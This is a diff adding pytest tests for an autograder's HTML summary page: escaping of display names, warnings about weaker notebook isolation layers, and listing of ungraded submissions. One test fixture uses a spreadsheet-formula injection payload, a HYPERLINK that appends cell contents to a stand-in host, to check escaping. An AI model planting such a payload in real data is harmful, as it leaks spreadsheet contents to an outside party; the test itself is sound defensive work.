@@ -63,3 +63,37 @@ def test_summary_of_no_submissions(tmp_path: Path, rubric: Rubric) -> None:
     """An empty batch still writes a page."""
     write_summary(tmp_path / "summary.html", [], rubric)
     assert "0 submissions" in (tmp_path / "summary.html").read_text(encoding="utf-8")
+
+
+def test_summary_escapes_formulas_in_names(tmp_path: Path, rubric: Rubric) -> None:
+    """A display name chosen to be a spreadsheet formula is plain, escaped text here."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"<b>Click</b>")'
+    write_summary(tmp_path / "summary.html", [_row("s1", rubric, True, (Submitter(name, "e", "1"),))], rubric)
+    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;&lt;b&gt;Click&lt;/b&gt;&quot;)" in page
+    assert "<b>Click" not in page
+
+
+def test_summary_says_a_weaker_isolation_layer(tmp_path: Path, rubric: Rubric) -> None:
+    """The layers the notebooks ran in, and a warning naming what a weaker one leaves open."""
+    rows = [_row(f"s{i}", rubric, True) for i in range(3)]
+    for row, layer in zip(rows, ["namespaces", "rlimits", "uid"], strict=True):
+        row.extra["isolation"] = layer
+    write_summary(tmp_path / "summary.html", rows[:1], rubric)
+    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
+    assert "namespaces (1)" in page and "Weaker isolation" not in page
+    write_summary(tmp_path / "summary.html", rows, rubric)
+    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
+    assert "Weaker isolation: rlimits</strong> (1 submission)" in page and "WITHOUT isolation" in page
+    assert "Weaker isolation: uid</strong>" in page
+
+
+def test_summary_lists_submissions_not_graded_apart(tmp_path: Path, rubric: Rubric) -> None:
+    """A failure to grade is listed with its reason and left out of the means and the histogram."""
+    failed = _row("broken", rubric, False)
+    failed.failure = "grader internal error on p1_step (OSError: [Errno 28] No space left on device)"
+    write_summary(tmp_path / "summary.html", [_row("a", rubric, True), failed], rubric)
+    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
+    assert "2 submissions, 1 not graded" in page and "No space left on device" in page
+    assert f"Mean total {rubric.autograded_points:.2f}" in page and "(over the 1 graded)" in page
+    assert "<td>broken</td><td></td><td>not graded</td>" in page
